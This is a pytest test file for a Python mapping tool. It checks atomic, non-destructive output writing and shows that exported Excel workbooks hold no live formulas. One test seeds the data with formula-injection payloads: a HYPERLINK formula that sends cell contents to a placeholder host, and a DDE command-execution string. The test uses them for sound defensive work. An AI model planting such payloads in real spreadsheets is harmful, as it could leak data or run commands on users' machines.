"""Outputs: preflight, never over the input, all-or-nothing, no temporary file left."""

from __future__ import annotations

import errno
import hashlib
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import opportunity_map as om
from opportunity_map import maps as maps_module
from opportunity_map._atomic import OUTPUT_MARKER
from opportunity_map.cli import main

ROOT = Path(__file__).resolve().parents[1]
BUNDLED = ROOT / "data" / "ambiti"
BASELINE, AS_OF = "2026-06-30", "2027-12-31"


def _snapshot(folder: Path) -> dict[str, str]:
    """Every file below ``folder`` (hidden ones included) with the hash of its content."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _leftovers(folder: Path) -> list[str]:
    return [str(p.relative_to(folder)) for p in folder.rglob("*")
            if ".tmp" in p.name or "staging" in p.name or "-check-" in p.name]


@pytest.fixture
def example_dir(tmp_path: Path) -> Path:
    """The example map's CSV files, copied to a folder of the test."""
    folder = tmp_path / "dati_antenna"
    om.save(om.example_map(), folder)
    return folder


def test_build_inside_the_input_is_a_usage_error(example_dir: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    before = _snapshot(example_dir)
    status = main(["build", str(example_dir), "--out", str(example_dir / "out"), "-q"])
    err = capsys.readouterr().err
    assert status == 2
    assert "è dentro la cartella dei dati" in err and "Traceback" not in err
    assert _snapshot(example_dir) == before


@pytest.mark.parametrize("dest", ["same_file", "same_folder", "inside"])
def test_export_never_writes_over_its_input(example_dir: Path, tmp_path: Path, dest: str,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    workbook = tmp_path / "mappa.xlsx"
    om.save(om.example_map(), workbook)
    source, target = {
        "same_file": (workbook, workbook),
        "same_folder": (example_dir, example_dir),
        "inside": (example_dir, example_dir / "copia.xlsx"),
    }[dest]
    before = _snapshot(tmp_path)
    status = main(["export", str(source), "--out", str(target)])
    err = capsys.readouterr().err
    assert status == 2, err
    assert "--out" in err and "Traceback" not in err
    assert _snapshot(tmp_path) == before


def test_a_failure_mid_build_leaves_the_previous_outputs(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "risultati"
    first = om.build(om.example_map(), out, baseline=BASELINE, as_of=AS_OF, n_boot=20, seed=1)
    assert (out / OUTPUT_MARKER).is_file() and first.open_first == out / "index.html"
    before = _snapshot(out)

    calls = []
    real = maps_module.write_text_atomic

    def disk_full_on_second_map(target: Path, text: str) -> Path:
        calls.append(target)
        if len(calls) == 2:
            real(target, text[: len(text) // 2])  # half a page reaches the disk...
            raise OSError(errno.ENOSPC, "No space left on device", str(target))
        return real(target, text)

    monkeypatch.setattr(maps_module, "write_text_atomic", disk_full_on_second_map)
    example = tmp_path / "esempio"
    om.save(om.example_map(), example)
    status = main(["build", str(example), "--baseline", "2026-06-30", "--as-of", "2028-06-30",
                   "--bootstrap", "20", "--out", str(out), "-q"])
    err = capsys.readouterr().err
    assert status == 2
    assert "spazio su disco esaurito" in err and "Traceback" not in err
    assert _snapshot(out) == before  # the 2027 outputs, untouched
    assert _leftovers(out) == []


def test_a_new_build_removes_what_the_previous_one_wrote_and_no_longer_writes(
        tmp_path: Path) -> None:
    out = tmp_path / "risultati"
    om.build(om.example_map(), out, outputs=["maps"], as_of=AS_OF)
    (out / "appunti.txt").write_text("del coordinatore", encoding="utf-8")
    assert {p.name for p in out.glob("*.html")} == {"bergamo.html", "lecco.html", "index.html"}
    om.build(om.example_map(), out, outputs=["maps"], as_of=AS_OF, territories=["lecco"])
    assert {p.name for p in out.glob("*.html")} == {"lecco.html", "index.html"}
    assert (out / "appunti.txt").read_text(encoding="utf-8") == "del coordinatore"


def test_the_loader_never_reads_an_output_folder_back(tmp_path: Path) -> None:
    data = tmp_path / "dati"
    om.save(om.example_map(), data / "esempio")
    # an output folder of a previous build that ended up below the data
    om.build(om.example_map(), tmp_path / "altrove", outputs=["data"], as_of=AS_OF)
    os.replace(tmp_path / "altrove", data / "vecchi_risultati")
    m = om.load(data)
    assert len(m.actors) == len(om.example_map().actors)


def test_sigterm_mid_build_leaves_nothing_behind(tmp_path: Path) -> None:
    out = tmp_path / "risultati"
    command = [sys.executable, "-m", "opportunity_map.cli", "build", str(BUNDLED),
               "--baseline", BASELINE, "--as-of", AS_OF, "--seed", "1", "--out", str(out), "-q"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not any(out.glob(".opportunity_map-staging-*")):
        time.sleep(0.05)
    time.sleep(0.5)  # inside the build, writing
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 143, err
    assert "Interrotto" in err and "Traceback" not in err
    assert _leftovers(out) == []
    assert not (out / "index.html").exists()


def test_render_after_evaluate_in_one_folder_keeps_the_evaluation(tmp_path: Path) -> None:
    out = tmp_path / "risultati"
    om.build(om.example_map(), out, outputs=["evaluation"], baseline=BASELINE, as_of=AS_OF,
             n_boot=20, seed=1)
    om.build(om.example_map(), out, outputs=["maps"], as_of=AS_OF)
    names = {p.name for p in out.iterdir()}
    assert {"evaluation.html", "evaluation.csv", "index.html", "bergamo.html"} <= names


def test_template_never_overwrites_a_workbook(tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    filled = tmp_path / "mappa_opportunita.xlsx"
    om.save(om.example_map(), filled)
    before = filled.read_bytes()
    status = main(["template", str(tmp_path)])
    err = capsys.readouterr().err
    assert status == 2 and "esiste già" in err and "Traceback" not in err
    assert filled.read_bytes() == before


def test_no_workbook_of_a_build_holds_a_formula(tmp_path: Path) -> None:
    from _xlsx_checks import assert_no_formulas

    data = tmp_path / "dati"
    m = om.example_map()
    actors = m.actors.copy()
    actors.loc[actors.index[0], "name"] = '=HYPERLINK("http://x.example/?q="&A1,"Clicca")'
    actors.loc[actors.index[1], "notes"] = "=cmd|' /C calc'!A0"
    m.actors = actors
    om.save(m, data)
    (data / "territories.csv").write_text(
        "slug,name,province_code\nbergamo,=1+1,16\n", encoding="utf-8")
    out = tmp_path / "out"
    status = main(["build", str(data), "--baseline", BASELINE, "--as-of", AS_OF,
                   "--bootstrap", "20", "--out", str(out), "-q"])
    assert status == 0
    for workbook in ("mappa_opportunita.xlsx", "evaluation.xlsx"):
        assert_no_formulas(out / workbook)
    back = om.load(out / "mappa_opportunita.xlsx")
    assert back.actors.set_index("id").at["BG-01", "name"].startswith("=HYPERLINK(")
    assert back.territories.set_index("slug").at["bergamo", "name"] == "=1+1"
    template = tmp_path / "modello"
    assert main(["template", str(template), "--territories",
                 str(data / "territories.csv")]) == 0
    assert_no_formulas(template / "mappa_opportunita.xlsx")


def test_a_cell_too_long_for_excel_stops_the_export_before_writing(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "dati"
    m = om.example_map()
    actors = m.actors.copy()
    actors.loc[actors.index[2], "notes"] = "x" * 40_000
    m.actors = actors
    om.save(m, data)  # CSV holds it
    assert len(om.load(data).actors.set_index("id").at["BG-03", "notes"]) == 40_000
    status = main(["export", str(data), "--out", str(tmp_path / "mappa.xlsx")])
    err = capsys.readouterr().err
    assert status == 1
    assert "32.767" in err and "notes" in err and "Traceback" not in err
    assert not (tmp_path / "mappa.xlsx").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["dati"]
